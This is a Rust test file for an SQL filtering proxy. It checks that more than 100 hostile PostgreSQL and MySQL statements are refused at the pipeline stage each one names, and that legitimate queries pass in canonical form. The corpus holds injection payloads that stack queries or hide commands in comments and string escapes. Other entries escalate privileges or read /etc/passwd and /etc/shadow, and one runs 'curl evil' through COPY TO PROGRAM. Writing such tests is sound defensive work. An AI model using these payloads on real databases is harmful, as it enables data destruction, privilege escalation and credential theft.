//! The bypass corpus: hostile statements across both dialects, each of which
//! the pipeline must refuse, naming the layer that did. Beside it, the
//! legitimate statements that must still go through.
#![allow(
    missing_docs,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use common::*;
use hexon_sql::{Dialect, Stage};

use Dialect::{Mysql as MY, Postgres as PG};
use Stage::*;

/// (dialect, who: a = analyst (read-only), d = developer (writer), statement,
/// stage expected to refuse it)
const HOSTILE: &[(Dialect, char, &str, Stage)] = &[
    // -- stacked queries
    (PG, 'a', "SELECT 1; DROP TABLE users", Validation),
    (PG, 'd', "SELECT 1; DELETE FROM users", Validation),
    (PG, 'a', "SELECT 1;DELETE FROM users WHERE true", Validation),
    (
        PG,
        'a',
        "SELECT 1 ; ; UPDATE users SET admin = true WHERE id = 1",
        Validation,
    ),
    (MY, 'a', "SELECT 1; DROP TABLE users", Validation),
    (MY, 'd', "SELECT * FROM items; TRUNCATE items", Validation),
    // -- comment tricks
    (MY, 'a', "SELECT 1 /*! ; DROP TABLE users */", Validation),
    (
        MY,
        'a',
        "SELECT /*!50000 1; DELETE FROM items */",
        Validation,
    ),
    (MY, 'a', "SELECT 1 /*M! ; DELETE FROM items */", Validation),
    (MY, 'd', "/*!40101 DELETE FROM items */", Validation),
    (
        PG,
        'a',
        "SELECT 1 /* ; */ ; DELETE FROM users /* */",
        Validation,
    ),
    (
        PG,
        'a',
        "SELECT 1 /* nested /* */ ; DELETE FROM users",
        Parse,
    ),
    (PG, 'a', "SELECT 1 -- \n; DELETE FROM users", Validation),
    (MY, 'a', "SELECT 1 # \n; DELETE FROM items", Validation),
    (
        PG,
        'a',
        "/**/DELETE/**/FROM/**/users/**/WHERE/**/id=1",
        ReadOnly,
    ),
    (PG, 'a', "DEL/**/ETE FROM users", Parse),
    // -- string-escape tricks
    (PG, 'a', "SELECT 'a\\'; DELETE FROM users; --'", Validation),
    (
        MY,
        'a',
        "SELECT 'a\\''; DELETE FROM items; -- '",
        Validation,
    ),
    (PG, 'a', "SELECT E'\\''; DELETE FROM users; --'", Validation),
    (
        PG,
        'a',
        "SELECT $$ $$; DELETE FROM users; $$ $$",
        Validation,
    ),
    (PG, 'a', "SELECT $a$ $b$ $a$; DELETE FROM users", Validation),
    (PG, 'a', "SELECT U&'\\0027'; DELETE FROM users", Validation),
    (MY, 'a', "SELECT \"a\\\"\"; DELETE FROM items", Validation),
    (MY, 'a', "SELECT `a``b`; DELETE FROM items", Validation),
    // -- writes for a read-only role
    (PG, 'a', "INSERT INTO orders VALUES (1)", ReadOnly),
    (
        PG,
        'a',
        "UPDATE orders SET total = 0 WHERE id = 1",
        ReadOnly,
    ),
    (PG, 'a', "DELETE FROM orders WHERE id = 1", ReadOnly),
    (
        PG,
        'a',
        "MERGE INTO orders o USING src s ON o.id = s.id WHEN MATCHED THEN DELETE",
        ReadOnly,
    ),
    (PG, 'a', "TRUNCATE orders", ReadOnly),
    (PG, 'a', "DROP TABLE orders", ReadOnly),
    (PG, 'a', "CREATE TABLE x (a int)", ReadOnly),
    (PG, 'a', "ALTER TABLE orders ADD COLUMN x int", ReadOnly),
    (PG, 'a', "CREATE INDEX i ON orders (id)", ReadOnly),
    (PG, 'a', "GRANT ALL ON orders TO public", ReadOnly),
    (PG, 'a', "CREATE ROLE evil SUPERUSER", ReadOnly),
    (PG, 'a', "VACUUM orders", ReadOnly),
    (MY, 'a', "INSERT INTO items VALUES (1)", ReadOnly),
    (MY, 'a', "REPLACE INTO items VALUES (1)", ReadOnly),
    (MY, 'a', "UPDATE items SET price = 0 WHERE id = 1", ReadOnly),
    (MY, 'a', "DELETE FROM items WHERE id = 1", ReadOnly),
    (
        MY,
        'a',
        "DELETE i FROM items i JOIN stock s ON i.id = s.id",
        ReadOnly,
    ),
    (
        MY,
        'a',
        "INSERT INTO items VALUES (1) ON DUPLICATE KEY UPDATE price = 0",
        ReadOnly,
    ),
    // -- CTEs with DML
    (
        PG,
        'a',
        "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
        ReadOnly,
    ),
    (
        PG,
        'a',
        "WITH u AS (UPDATE orders SET total = 0 WHERE true RETURNING id) SELECT count(*) FROM u",
        ReadOnly,
    ),
    (
        PG,
        'a',
        "WITH i AS (INSERT INTO orders VALUES (1) RETURNING *) SELECT 1",
        ReadOnly,
    ),
    (
        PG,
        'a',
        "WITH a AS (SELECT 1), d AS (DELETE FROM orders WHERE id = 1 RETURNING 1) SELECT * FROM a",
        ReadOnly,
    ),
    (
        PG,
        'a',
        "SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d) x",
        ReadOnly,
    ),
    // -- SELECT INTO, locking reads
    (PG, 'a', "SELECT * INTO stolen FROM orders", ReadOnly),
    (PG, 'a', "SELECT * FROM orders FOR UPDATE", ReadOnly),
    (PG, 'a', "SELECT * FROM orders FOR SHARE", ReadOnly),
    (
        PG,
        'a',
        "SELECT * FROM orders FOR NO KEY UPDATE NOWAIT",
        Parse,
    ),
    (MY, 'a', "SELECT * FROM items FOR UPDATE", ReadOnly),
    (MY, 'a', "SELECT * FROM items LOCK IN SHARE MODE", Parse),
    (MY, 'a', "SELECT * FROM items INTO OUTFILE '/tmp/x'", Parse),
    (MY, 'a', "SELECT * FROM items INTO DUMPFILE '/tmp/x'", Parse),
    (MY, 'a', "SELECT * INTO @x FROM items", ReadOnly),
    // -- COPY, CALL, DO, PREPARE … AS
    (PG, 'a', "COPY orders FROM STDIN", ReadOnly),
    (PG, 'd', "COPY orders TO '/tmp/orders.csv'", ReadOnly),
    (PG, 'd', "COPY orders FROM '/etc/passwd'", ReadOnly),
    (PG, 'd', "COPY orders TO PROGRAM 'curl evil'", ReadOnly),
    (PG, 'a', "CALL refresh_everything()", ReadOnly),
    (PG, 'd', "CALL refresh_everything()", TablePermission),
    (PG, 'a', "DO $$ BEGIN DELETE FROM orders; END $$", Parse),
    (
        PG,
        'a',
        "PREPARE p AS DELETE FROM orders WHERE id = $1",
        ReadOnly,
    ),
    (
        PG,
        'a',
        "PREPARE p AS SELECT * FROM salaries",
        TablePermission,
    ),
    (
        PG,
        'a',
        "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1",
        ReadOnly,
    ),
    // -- session identity and parsing changes (every role)
    (PG, 'd', "SET ROLE postgres", ReadOnly),
    (PG, 'a', "SET ROLE postgres", ReadOnly),
    (PG, 'd', "SET SESSION AUTHORIZATION postgres", ReadOnly),
    (PG, 'd', "RESET ROLE", ReadOnly),
    (PG, 'd', "SET standard_conforming_strings = off", ReadOnly),
    (PG, 'd', "SET search_path = evil, public", ReadOnly),
    (PG, 'a', "SET default_transaction_read_only = off", ReadOnly),
    (PG, 'a', "SET TRANSACTION READ WRITE", ReadOnly),
    (
        PG,
        'd',
        "SELECT set_config('role', 'postgres', false)",
        ReadOnly,
    ),
    (
        PG,
        'a',
        "SELECT set_config('search_path', 'evil', false)",
        ReadOnly,
    ),
    (MY, 'd', "SET NAMES gbk", ReadOnly),
    (MY, 'd', "SET sql_mode = 'NO_BACKSLASH_ESCAPES'", ReadOnly),
    (MY, 'd', "SET GLOBAL general_log = 1", ReadOnly),
    (MY, 'd', "SET character_set_client = 'gbk'", ReadOnly),
    // -- side-effect and dangerous functions
    (PG, 'a', "SELECT pg_read_file('/etc/passwd')", ReadOnly),
    (PG, 'd', "SELECT pg_read_file('/etc/passwd')", ReadOnly),
    (
        PG,
        'd',
        "SELECT pg_catalog.pg_read_file('/etc/passwd')",
        ReadOnly,
    ),
    (
        PG,
        'd',
        "SELECT pg_read_binary_file('/etc/shadow')",
        ReadOnly,
    ),
    (PG, 'd', "SELECT pg_ls_dir('/')", ReadOnly),
    (PG, 'd', "SELECT lo_import('/etc/passwd')", ReadOnly),
    (PG, 'd', "SELECT lo_export(1, '/tmp/x')", ReadOnly),
    (PG, 'd', "SELECT dblink('host=evil', 'SELECT 1')", ReadOnly),
    (
        PG,
        'd',
        "SELECT dblink_exec('DELETE FROM orders')",
        ReadOnly,
    ),
    (PG, 'd', "SELECT pg_terminate_backend(1)", ReadOnly),
    (PG, 'd', "SELECT pg_cancel_backend(1)", ReadOnly),
    (PG, 'd', "SELECT pg_reload_conf()", ReadOnly),
    (
        PG,
        'a',
        "SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')",
        ReadOnly,
    ),
    (
        PG,
        'a',
        "SELECT table_to_xml('salaries', true, true, '')",
        ReadOnly,
    ),
    (
        PG,
        'a',
        "SELECT * FROM orders WHERE id = (SELECT pg_read_file('/etc/passwd'))::int",
        ReadOnly,
    ),
    (PG, 'a', "SELECT nextval('orders_id_seq')", ReadOnly),
    (PG, 'a', "SELECT setval('orders_id_seq', 1)", ReadOnly),
    (PG, 'a', "SELECT pg_advisory_lock(1)", ReadOnly),
    (PG, 'a', "SELECT pg_sleep(100)", ReadOnly),
    (PG, 'a', "SELECT pg_notify('c', 'x')", ReadOnly),
    (PG, 'a', "SELECT my_function_that_deletes()", ReadOnly),
    (PG, 'a', "SELECT public.lower('x')", ReadOnly),
    (
        PG,
        'a',
        "SELECT * FROM generate_series(1, 3) g, dblink('x', 'y') d",
        ReadOnly,
    ),
    (MY, 'a', "SELECT LOAD_FILE('/etc/passwd')", ReadOnly),
    (MY, 'a', "SELECT SLEEP(100)", ReadOnly),
    (MY, 'a', "SELECT BENCHMARK(100000000, MD5('x'))", ReadOnly),
    (MY, 'a', "SELECT GET_LOCK('x', 10)", ReadOnly),
    (MY, 'd', "SELECT sys_exec('id')", ReadOnly),
    // -- other statement kinds
    (
        MY,
        'a',
        "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE items",
        Parse,
    ),
    (MY, 'd', "HANDLER items OPEN", Parse),
    (PG, 'd', "LISTEN channel", Parse),
    (PG, 'd', "NOTIFY channel", Parse),
    (PG, 'd', "LOCK TABLE orders", Parse),
    (PG, 'd', "CHECKPOINT", Parse),
    (MY, 'd', "KILL 1", Parse),
    (MY, 'd', "FLUSH PRIVILEGES", Parse),
    // -- database access and switching
    (MY, 'a', "USE archive", DatabaseAccess),
    (MY, 'a', "SELECT * FROM archive.items", DatabaseAccess),
    (MY, 'a', "SELECT * FROM mysql.user", DatabaseAccess),
    (
        MY,
        'd',
        "SELECT * FROM items i JOIN archive.items a ON i.id = a.id",
        DatabaseAccess,
    ),
    (PG, 'a', "SELECT * FROM other.public.t", DatabaseAccess),
    // -- table permissions (aliases, subqueries, CTE shadowing, joins)
    (PG, 'a', "SELECT * FROM salaries", TablePermission),
    (PG, 'a', "SELECT * FROM public.salaries", TablePermission),
    (PG, 'a', "SELECT * FROM \"salaries\"", TablePermission),
    (PG, 'a', "SELECT * FROM SALARIES", TablePermission),
    (
        PG,
        'a',
        "SELECT s.* FROM orders o JOIN salaries s ON o.id = s.id",
        TablePermission,
    ),
    (
        PG,
        'a',
        "SELECT * FROM orders WHERE id IN (SELECT id FROM salaries)",
        TablePermission,
    ),
    (
        PG,
        'a',
        "SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM salaries)",
        TablePermission,
    ),
    (
        PG,
        'a',
        "SELECT (SELECT max(amount) FROM salaries) FROM orders",
        TablePermission,
    ),
    (
        PG,
        'a',
        "WITH salaries AS (SELECT * FROM salaries) SELECT * FROM salaries",
        TablePermission,
    ),
    (
        PG,
        'a',
        "WITH x AS (SELECT 1) SELECT * FROM x, (WITH y AS (SELECT 2) SELECT * FROM salaries) s",
        TablePermission,
    ),
    (
        PG,
        'a',
        "SELECT * FROM orders UNION SELECT * FROM salaries",
        TablePermission,
    ),
    (PG, 'a', "SELECT * FROM secret.keys", TablePermission),
    (
        PG,
        'a',
        "SELECT * FROM pg_catalog.pg_authid FOR UPDATE",
        ReadOnly,
    ),
    (
        PG,
        'd',
        "INSERT INTO pg_catalog.pg_authid VALUES (1)",
        TablePermission,
    ),
    (
        PG,
        'd',
        "UPDATE audit SET who = 'x' WHERE id = 1",
        TablePermission,
    ),
    (PG, 'd', "DELETE FROM audit WHERE id = 1", TablePermission),
    (
        PG,
        'd',
        "INSERT INTO audit SELECT * FROM reporting.totals",
        TablePermission,
    ),
    (PG, 'd', "CREATE TABLE x (a int)", TablePermission),
    (PG, 'd', "DROP TABLE orders", TablePermission),
    (PG, 'd', "GRANT ALL ON orders TO public", TablePermission),
    (
        PG,
        'd',
        "INSERT INTO audit VALUES (1) ON CONFLICT (id) DO UPDATE SET who = 'x'",
        TablePermission,
    ),
    (
        MY,
        'a',
        "SELECT * FROM items i JOIN archive.secret s ON i.id = s.id",
        DatabaseAccess,
    ),
    // -- patterns
    (PG, 'a', "SELECT * FROM credit_cards", Pattern),
    (
        PG,
        'a',
        "SELECT number FROM public.credit_cards WHERE id = 1",
        Pattern,
    ),
    // -- complexity
    (PG, 'd', "UPDATE orders SET total = 0", Complexity),
    (PG, 'd', "DELETE FROM orders", Complexity),
    (
        PG,
        'a',
        "SELECT * FROM orders a, orders b, orders c",
        Complexity,
    ),
    (
        PG,
        'a',
        "SELECT * FROM orders a CROSS JOIN orders b CROSS JOIN orders c",
        Complexity,
    ),
    (MY, 'd', "DELETE FROM items", Complexity),
    (MY, 'd', "UPDATE items SET price = 0", Complexity),
    // -- unparseable: refused, never forwarded
    (PG, 'a', "SELEC * FROM orders", Parse),
    (PG, 'a', "SELECT * FROM orders WHERE", Parse),
    (
        MY,
        'a',
        "SELECT * FROM items WHERE id = 1 PROCEDURE ANALYSE()",
        Parse,
    ),
    (PG, 'a', "TABLE salaries", Parse),
];

/// `a`: the analyst (read-only), anything else: the developer (writer); on
/// the PostgreSQL database `app` or the MySQL database `shop`.
fn caller(who: char, dialect: Dialect) -> (hexon_core::Identity, &'static str) {
    let id = if who == 'a' { analyst() } else { developer() };
    let db = if dialect == Dialect::Postgres {
        "app"
    } else {
        "shop"
    };
    (id, db)
}

#[tokio::test]
async fn every_hostile_statement_is_refused_by_the_named_layer() {
    assert!(
        HOSTILE.len() >= 100,
        "the corpus must hold at least 100 statements"
    );
    let mut p = pipeline();
    let mut wrong = Vec::new();
    for (dialect, who, sql, stage) in HOSTILE {
        let (id, db) = caller(*who, *dialect);
        match run(&mut p, &id, db, *dialect, sql).await {
            Ok(admitted) => wrong.push(format!("ADMITTED {sql:?} as {:?}", admitted.sql)),
            Err(r) if r.stage != *stage => wrong.push(format!(
                "{sql:?}: expected {stage}, refused by {} ({}: {})",
                r.stage, r.code, r.reason
            )),
            Err(r) => assert!(!r.reason.is_empty(), "a refusal says why"),
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {}:\n{}",
        wrong.len(),
        HOSTILE.len(),
        wrong.join("\n")
    );
}

/// Statements real clients send that must go through, with what is sent on.
#[tokio::test]
async fn legitimate_statements_go_through_in_canonical_form() {
    let mut p = pipeline();
    let cases: &[(Dialect, char, &str, &str)] = &[
        (
            PG,
            'a',
            "select id, total from orders where id = 1",
            "SELECT id, total FROM orders WHERE id = 1 LIMIT 100",
        ),
        (
            PG,
            'a',
            "SELECT * FROM orders LIMIT 5",
            "SELECT * FROM orders LIMIT 5",
        ),
        (
            PG,
            'a',
            "SELECT * FROM orders LIMIT 5000",
            "SELECT * FROM orders LIMIT 100",
        ),
        (
            PG,
            'a',
            "SELECT count(*) FROM orders o JOIN reporting.totals t ON o.id = t.id",
            "SELECT count(*) FROM orders o JOIN reporting.totals t ON o.id = t.id LIMIT 100",
        ),
        (
            PG,
            'a',
            "WITH x AS (SELECT id FROM orders) SELECT * FROM x",
            "WITH x AS (SELECT id FROM orders) SELECT * FROM x LIMIT 100",
        ),
        (
            PG,
            'a',
            "SELECT lower(name), now() FROM orders WHERE id = $1",
            "SELECT lower(name), now() FROM orders WHERE id = $1 LIMIT 100",
        ),
        (PG, 'a', "BEGIN", "BEGIN"),
        (
            PG,
            'a',
            "SET statement_timeout = 1000",
            "SET statement_timeout = 1000",
        ),
        (
            PG,
            'a',
            "SELECT c.relname FROM pg_catalog.pg_class c WHERE c.relkind = 'r'",
            "SELECT c.relname FROM pg_catalog.pg_class c WHERE c.relkind = 'r' LIMIT 100",
        ),
        (
            PG,
            'd',
            "INSERT INTO orders (id, total) VALUES (1, 2)",
            "INSERT INTO orders (id, total) VALUES (1, 2)",
        ),
        (
            PG,
            'd',
            "UPDATE orders SET total = 0 WHERE id = 1",
            "UPDATE orders SET total = 0 WHERE id = 1",
        ),
        (
            PG,
            'd',
            "INSERT INTO audit (who) VALUES ('me')",
            "INSERT INTO audit (who) VALUES ('me')",
        ),
        (
            PG,
            'd',
            "SELECT nextval('orders_id_seq')",
            "SELECT nextval('orders_id_seq')",
        ),
        (
            MY,
            'a',
            "SELECT * FROM items WHERE name = 'it\\'s'",
            "SELECT * FROM items WHERE name = 'it''s' LIMIT 100",
        ),
        (
            MY,
            'a',
            "SELECT * FROM shop.items LIMIT 10, 20",
            "SELECT * FROM shop.items LIMIT 10, 20",
        ),
        (
            MY,
            'd',
            "UPDATE items SET price = price + 1 WHERE id = 3",
            "UPDATE items SET price = price + 1 WHERE id = 3",
        ),
        (MY, 'a', "USE shop", "USE shop"),
    ];
    let mut wrong = Vec::new();
    for (dialect, who, sql, expected) in cases {
        let (id, db) = caller(*who, *dialect);
        match run(&mut p, &id, db, *dialect, sql).await {
            Ok(a) if &*a.sql == *expected => {}
            Ok(a) => wrong.push(format!("{sql:?}: sent {:?}, expected {expected:?}", a.sql)),
            Err(r) => wrong.push(format!(
                "{sql:?}: refused by {} ({}: {})",
                r.stage, r.code, r.reason
            )),
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[tokio::test]
async fn no_role_no_access_and_cached_verdicts_agree() {
    let mut p = pipeline();
    let stranger = user("eve", &["nobody"]);
    let r = run(&mut p, &stranger, "app", PG, "SELECT 1")
        .await
        .unwrap_err();
    assert_eq!(r.stage, DatabaseAccess);
    let r = run(&mut p, &analyst(), "nonexistent", PG, "SELECT 1")
        .await
        .unwrap_err();
    assert_eq!(r.stage, DatabaseAccess);
    // Same statement twice: the second answer comes from the cache and is
    // identical, refusals included.
    for sql in [
        "SELECT * FROM orders",
        "DELETE FROM orders WHERE id = 1",
        "SELECT * FROM salaries",
    ] {
        let first = run(&mut p, &analyst(), "app", PG, sql).await;
        let second = run(&mut p, &analyst(), "app", PG, sql).await;
        assert_eq!(first, second, "{sql}");
    }
    // The cache is per role: the writer may delete what the reader may not.
    assert!(
        run(
            &mut p,
            &developer(),
            "app",
            PG,
            "DELETE FROM orders WHERE id = 1"
        )
        .await
        .is_ok()
    );
}

#[tokio::test(start_paused = true)]
async fn rate_limit_per_identity_refuses_then_recovers() {
    let acl = hexon_sql::Acl::from_toml(
        r#"
[[databases]]
name = "app"
dialect = "postgres"
rate_per_identity = 5
[[databases.roles]]
name = "r"
groups = ["*"]
tables = [{ name = "*", ops = ["select"] }]
"#,
    )
    .unwrap();
    let mut p = hexon_sql::Pipeline::build(std::sync::Arc::new(acl), 16);
    let a = analyst();
    let b = developer();
    // A burst of one second's worth, then refusals.
    for _ in 0..5 {
        run(&mut p, &a, "app", PG, "SELECT 1").await.unwrap();
    }
    let r = run(&mut p, &a, "app", PG, "SELECT 1").await.unwrap_err();
    assert_eq!((r.stage, r.code), (RateLimit, "rate_limited"));
    assert!(r.reason.contains("retry in"), "{}", r.reason);
    // Another identity has its own budget.
    run(&mut p, &b, "app", PG, "SELECT 1").await.unwrap();
    // After a fifth of a second, one more statement is allowed.
    tokio::time::advance(std::time::Duration::from_millis(201)).await;
    run(&mut p, &a, "app", PG, "SELECT 1").await.unwrap();
    assert!(run(&mut p, &a, "app", PG, "SELECT 1").await.is_err());
}

#[tokio::test]
async fn validation_limits() {
    let mut p = pipeline();
    let long = format!("SELECT {}", "1 + ".repeat(2000)) + "1";
    let r = run(&mut p, &analyst(), "app", PG, &long).await.unwrap_err();
    assert_eq!((r.stage, r.code), (Validation, "too_long"));
    let deep = format!("SELECT {}1{}", "(".repeat(40), ")".repeat(40));
    let r = run(&mut p, &analyst(), "app", PG, &deep).await.unwrap_err();
    assert_eq!((r.stage, r.code), (Validation, "too_deep"));
    let r = run(&mut p, &analyst(), "app", PG, "SELECT '\0'")
        .await
        .unwrap_err();
    assert_eq!((r.stage, r.code), (Validation, "nul_byte"));
    let r = run(&mut p, &analyst(), "app", PG, "  ").await.unwrap_err();
    assert_eq!((r.stage, r.code), (Validation, "empty"));
}
